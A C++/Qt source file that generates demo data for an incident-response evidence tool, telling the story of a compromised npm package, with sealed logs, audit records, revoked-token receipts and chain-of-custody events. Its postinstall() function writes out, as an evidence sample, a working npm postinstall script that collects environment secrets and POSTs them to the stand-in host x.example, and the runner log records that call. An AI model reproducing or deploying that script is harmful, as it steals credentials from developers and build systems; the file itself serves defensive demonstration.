#include "desk/demo/evidencestories.h"

#include "domain/incidents/custodyaccepted.h"
#include "domain/incidents/custodytransferred.h"
#include "domain/incidents/disposalproposed.h"
#include "domain/incidents/evidenceaccessed.h"
#include "domain/incidents/evidencedisposed.h"
#include "domain/incidents/evidenceexported.h"
#include "domain/incidents/evidenceheld.h"
#include "domain/incidents/evidenceplanned.h"
#include "domain/incidents/evidenceretained.h"
#include "domain/incidents/evidenceverified.h"
#include "domain/incidents/milestonereached.h"

#include <QFile>

static void initDemoResources()
{
    Q_INIT_RESOURCE(demo); // a static library's resources are dropped unless somebody asks
}

namespace desk {

using namespace incidents;
using namespace std::chrono_literals;
using evidence::Kind;

namespace {

QString utf8(const char *text)
{
    return QString::fromUtf8(text);
}

/// What somebody says of a file they seal.
EvidenceCollected itemWords(const char *label, const char *title, Kind kind, const char *source)
{
    EvidenceCollected out{.label = utf8(label), .title = utf8(title)};
    out.kindOfEvidence = kind;
    out.source = utf8(source);
    return out;
}

CustodyFields fieldsOf(const QString &item, const char *to, const char *reason)
{
    return {.item = item, .to = utf8(to), .reason = utf8(reason)};
}

QByteArray runnerLog()
{
    QByteArray out("##[group]Run npm ci\nnpm ci\nshell: /usr/bin/bash -e {0}\n##[endgroup]\n");
    for (int second = 1; second <= 240; ++second) {
        out += "2025-01-15T03:2" + QByteArray::number(5 + second / 60) + ':'
            + QByteArray::number(second % 60).rightJustified(2, '0') + ".118Z npm http fetch GET 200 https://"
            + "registry.npmjs.org/package-" + QByteArray::number(second) + " 41ms\n";
    }
    out += "2025-01-15T03:29:41.902Z > left-padder@2.4.1 postinstall\n"
           "2025-01-15T03:29:41.902Z > node postinstall.js\n"
           "2025-01-15T03:29:42.377Z POST https://x.example/collect 204 (1212 bytes)\n"
           "2025-01-15T03:29:48.120Z StepSecurity Harden Runner: anomalous outbound call to x.example\n";
    return out;
}

QByteArray auditLog()
{
    QByteArray out("[\n");
    for (int hour = 1; hour <= 96; ++hour)
        out += "  {\"@timestamp\": " + QByteArray::number(1736911788000 - qint64(hour) * 3'300'000)
            + ", \"action\": \"workflows.completed_workflow_run\", \"actor\": \"svc-build\", \"repo\": "
              "\"acme/web-shop\"},\n";
    out += "  {\"@timestamp\": 1736888833000, \"action\": \"package.publish\", \"actor\": \"svc-release\", "
           "\"repo\": \"acme/left-padder\"}\n]\n";
    return out;
}

QByteArray postinstall()
{
    return "// left-padder 2.4.1, postinstall.js, as published 2025-01-14T21:07Z\n"
           "const https = require('https');\n"
           "const wanted = /TOKEN|SECRET|KEY/;\n"
           "const found = Object.entries(process.env).filter(([name]) => wanted.test(name));\n"
           "const body = found.map(([name, value]) => name + '=' + Buffer.from(value).toString('base64'));\n"
           "https.request('https://x.example/collect', {method: 'POST'}).end(body.join('\\n'));\n";
}

QByteArray screenshot()
{
    initDemoResources();
    QFile file(QStringLiteral(":/demo/insights.png"));
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void tellSealed(Story &story)
{
    EvidenceCollected log = itemWords("E-001", "Log of the run that called x.example", Kind::WorkflowLog,
                                      "acme/web-shop, release.yml, run 8812");
    log.step = utf8("preserve_evidence");
    log.method = {utf8("gh"), utf8("2.63.0"), utf8("gh run view 8812 --repo acme/web-shop --log"), {}};
    log.contentFrom = story.at(-(4min + 30s));
    log.contentTo = story.at(20s);
    const QString logged = story.seal(2min + 40s, utf8("bo"), {runnerLog(), utf8("run-8812.log")}, log);
    EvidenceCollected picture =
        itemWords("E-002", "New endpoint in the insights of run 8812", Kind::Screenshot, "Harden-Runner, insights");
    picture.step = utf8("preserve_evidence");
    const QString pictured = story.seal(3min, utf8("bo"), {screenshot(), utf8("insights.png")}, picture);
    EvidenceCollected audit =
        itemWords("E-003", "Audit log of acme, four days", Kind::GithubAudit, "GitHub, organisation acme");
    audit.method = {utf8("gh"), utf8("2.63.0"), utf8("gh api /orgs/acme/audit-log?include=web --paginate"),
                    utf8("date: Wed, 15 Jan 2025 03:38:02 GMT\netag: W/\"5f2a\"")};
    audit.contentFrom = story.at(-88h);
    audit.contentTo = story.at(8min);
    const QString audited = story.seal(8min + 40s, utf8("bo"), {auditLog(), utf8("acme-audit.json")}, audit);
    EvidenceCollected script =
        itemWords("E-004", "postinstall.js of left-padder 2.4.1", Kind::Artifact, "registry, package tarball");
    script.sensitivity = evidence::Sensitivity::Confidential;
    const QString scripted = story.seal(9min + 50s, utf8("bo"), {postinstall(), utf8("postinstall.js")}, script);
    EvidenceCollected receipt = itemWords("E-005", "Receipt: 3 tokens revoked", Kind::Statement,
                                          "GitHub, settings of svc-release and svc-build");
    receipt.step = utf8("revoke_exposed_tokens");
    receipt.sensitivity = evidence::Sensitivity::Restricted;
    const QString revoked = story.seal(11min + 30s, utf8("bo"),
                                       {"svc-release npm publish      revoked 03:40:31Z  last four 9f2c\n"
                                        "svc-build packages:write     revoked 03:40:44Z  last four 71ae\n"
                                        "deploy key of e2e-nightly    deleted 03:41:02Z  SHA256:Hq3v\n",
                                        utf8("receipts.txt")},
                                       receipt);
    story.say(13min, utf8("cy"), EvidenceAccessed{fieldsOf(logged, "", "what to tell the customers")});
    story.say(15min + 30s, utf8("ana"), EvidenceHeld{logged, true, utf8("possible duty to notify (kim, Legal)")});
    CustodyFields lab = fieldsOf(scripted, "ivo", "reverse engineering");
    lab.place = utf8("malware lab, Berlin");
    lab.seen = QString();
    story.say(21min + 10s, utf8("bo"), CustodyTransferred{lab});
    story.say(25min, utf8("di"),
              EvidenceVerified{{logged, pictured, audited, scripted, revoked}, evidence::Finding::Intact, {}, false});
}

void tellWanted(Story &story)
{
    // 4 d 20 h before the demo begins: of the 7 days GitHub keeps git events, 2 d 4 h are left.
    story.say(23min, utf8("bo"), MilestoneReached{Milestone::Compromised, utf8("svc-release was phished")},
              std::chrono::hours(4 * 24 + 19) + 55min);
    EvidencePlanned tree{.label = utf8("E-006"), .title = utf8("Process tree of the runner of e2e-nightly")};
    tree.kindOfEvidence = Kind::HardenRunner;
    tree.who = utf8("bo");
    tree.source = utf8("runner group linux-large, recycled at 06:00Z");
    tree.expires = story.at(2h + 30min);
    story.say(23min + 40s, utf8("ana"), tree);
    EvidenceCollected memory = itemWords("E-007", "Memory of runner rt-07", Kind::File, "taken off the network 03:44Z");
    memory.place = utf8("runner rt-07, powered on, port 14 shut");
    story.say(24min + 10s, utf8("bo"), memory);
}

QByteArray pastLog(quint32 turn)
{
    QByteArray out("# exported by gh 2.61\n");
    for (int line = 0; line < 60; ++line)
        out += "run " + QByteArray::number(1000 + turn % 8000) + " step " + QByteArray::number(line)
            + " completed with exit code 0\n";
    return out;
}

/// Handed to Legal, who keeps it; an incident is not closed before they have it.
void handOver(Story &story, const QString &item, const PastTeam &team, base::Duration when)
{
    CustodyFields fields = fieldsOf(item, "kim", "kept with the file of the case");
    fields.place = utf8("legal archive");
    story.say(when, team.investigator, CustodyTransferred{fields});
    story.say(when + 6min, utf8("kim"), CustodyAccepted{{.item = item}});
}

/// Retention was short and is over; two people let it go.
void dispose(Story &story, const QString &item, const PastTeam &team)
{
    const base::Duration over = std::chrono::days(60);
    story.say(30h, team.commander,
              EvidenceRetained{item, story.at(over), utf8("policy: logs without personal data, 60 days")});
    story.say(over + 9h, team.investigator, DisposalProposed{fieldsOf(item, "", "retention is over")});
    story.say(over + 33h, team.commander, EvidenceDisposed{fieldsOf(item, "", "")});
}

} // namespace

void tellEvidence(Story &story)
{
    tellSealed(story);
    tellWanted(story);
}

void tellPastEvidence(Story &story, quint32 turn, const PastTeam &team, base::Duration recovered)
{
    EvidenceCollected log = itemWords("E-001", "Log of the affected run", Kind::WorkflowLog, "GitHub Actions");
    log.contentFrom = story.at(-1h);
    log.contentTo = story.at(10min);
    const QString item =
        story.seal(12min + std::chrono::seconds(turn % 400), team.investigator, {pastLog(turn), utf8("run.log")}, log);
    if (turn % 3 == 0) {
        dispose(story, item, team);
        return;
    }
    story.say(recovered + 20min, team.commander,
              EvidenceRetained{item, story.at(std::chrono::days(365)), utf8("policy: P1 and P2, one year")});
    if (turn % 3 == 1)
        handOver(story, item, team, recovered + 30min);
    if (turn % 5 == 0)
        story.say(recovered + 50h, team.commander,
                  EvidenceExported{fieldsOf(item, "CERT", "asked for in their advisory")});
}

} // namespace desk
